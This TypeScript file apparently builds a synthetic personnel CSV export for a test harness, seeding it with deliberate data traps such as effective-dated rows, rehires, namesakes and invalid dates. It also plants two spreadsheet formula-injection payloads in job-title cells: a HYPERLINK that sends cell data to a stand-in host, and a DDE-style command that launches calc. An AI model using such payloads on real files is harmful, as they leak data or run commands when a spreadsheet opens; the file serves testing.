import { dayAgo } from './chance.js';
import type { Company } from './company.js';
import { formerDepartment } from './marks.js';
import type { Person } from './model.js';
import { departments, executives } from './organisation.js';

const columns = [
  'employee_id',
  'previous_employee_id',
  'legal_first_name',
  'legal_last_name',
  'preferred_first_name',
  'work_email',
  'personal_email',
  'birth_month_day',
  'worker_type',
  'status',
  'hire_date',
  'termination_date',
  'manager_employee_id',
  'department',
  'cost_center',
  'job_code',
  'job_title',
  'location',
  'company',
  'effective_date',
] as const;

type Row = Readonly<Record<(typeof columns)[number], string>>;

/** The personnel system's export, as spreadsheets like it: byte order mark, CRLF, one row for each effective date. */
export function writeHr(company: Company): string {
  const { population } = company;
  const people = [...population.leavers.map(({ person }) => person), ...population.current];
  const rows = [...people.flatMap((person) => rowsOf(company, person)), ...badRows(company)];
  layTraps(company);
  return `\uFEFF${[columns.join(','), ...rows.map(toLine)].join('\r\n')}\r\n`;
}

const toLine = (row: Row): string => columns.map((column) => quoted(row[column])).join(',');

const quoted = (cell: string): string => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

function rowsOf({ population }: Company, person: Person): readonly Row[] {
  const { current, marks } = population;
  const row = rowOf(person);
  if (marks.has(person, 'formula cell'))
    return [{ ...row, job_title: formulas[Number(person.id.slice(-1)) % 2] ?? '' }];
  if (!marks.has(person, 'effective dates')) return [row];
  const first = current.find((one) => marks.has(one, 'effective dates'))?.id === person.id;
  const department = formerDepartment(person);
  return first
    ? [
        { ...row, department, effective_date: dayAgo(900) },
        { ...row, effective_date: dayAgo(300) },
      ]
    : [row, { ...row, department, effective_date: dayAgo(-60) }];
}

/** Cells that a spreadsheet would run. */
const formulas = [`=HYPERLINK("https://prize.example/?x="&A2,"Open me")`, `@SUM(1+1)*cmd|' /C calc'!A0`];

function rowOf(person: Person): Row {
  const plan = departments.find(({ name }) => name === person.department);
  const code = [...(plan?.jobs ?? []), ...executives].find(({ title }) => title === person.job)?.code;
  return {
    employee_id: person.id,
    previous_employee_id: person.previousId ?? '',
    legal_first_name: person.given,
    legal_last_name: person.family,
    preferred_first_name: person.preferred ?? person.given,
    work_email: person.email,
    personal_email: person.personalEmail ?? '',
    birth_month_day: person.birthday,
    worker_type: person.workerType,
    status: person.status,
    hire_date: person.hired,
    termination_date: person.left ?? '',
    manager_employee_id: person.managerId ?? '',
    department: person.department,
    cost_center: plan?.costCenter ?? 'CC001',
    job_code: code ?? `${plan?.code ?? 'EXE'}-HD`,
    job_title: person.job,
    location: person.location,
    company: 'Meridian Freight',
    effective_date: '',
  };
}

/** Rows that are bad in themselves: refused, told with their line, and nobody else's loss. */
function badRows({ population, traps }: Company): readonly Row[] {
  const [model] = population.current;
  if (!model) return [];
  const blank = { ...rowOf(model), personal_email: '', previous_employee_id: '' };
  const rows: readonly Row[] = [
    {
      ...blank,
      employee_id: 'E19901',
      legal_first_name: 'Quinn',
      legal_last_name: 'Typo',
      preferred_first_name: 'Quinn',
      work_email: 'quinn.typo@meridian.example',
      hire_date: '2025-13-45',
    },
    {
      ...blank,
      employee_id: 'E19902',
      legal_first_name: 'Robin',
      legal_last_name: 'Limbo',
      preferred_first_name: 'Robin',
      work_email: 'robin.limbo@meridian.example',
      status: 'Garden leave',
    },
  ];
  for (const { employee_id: id } of rows) traps.lay('badRows', 'hr', id);
  return rows;
}

function layTraps({ population, traps }: Company): void {
  const { current, leavers, marks } = population;
  for (const person of current) {
    if (marks.has(person, 'formula cell')) traps.lay('formulaCells', 'hr', person.id);
    if (marks.has(person, 'effective dates')) traps.lay('effectiveDated', 'hr', person.id);
    if (person.status === 'On Leave') traps.lay('onLeave', 'hr', person.id);
    if (person.status === 'Pre-hire') traps.lay('preHire', 'hr', person.id);
    if (person.previousId !== undefined) traps.lay('rehires', 'hr', person.id);
    const namesakes = [...current, ...leavers.filter(({ kind }) => kind === 'namesake').map((leaver) => leaver.person)];
    const name = ({ given, family }: Person): string => JSON.stringify([given, family]);
    for (const other of namesakes)
      if (other.id !== person.id && name(other) === name(person)) traps.lay('homonyms', 'hr', person.id);
  }
  for (const { person, kind } of leavers) if (kind === 'rehired') traps.lay('rehires', 'hr', person.id);
}
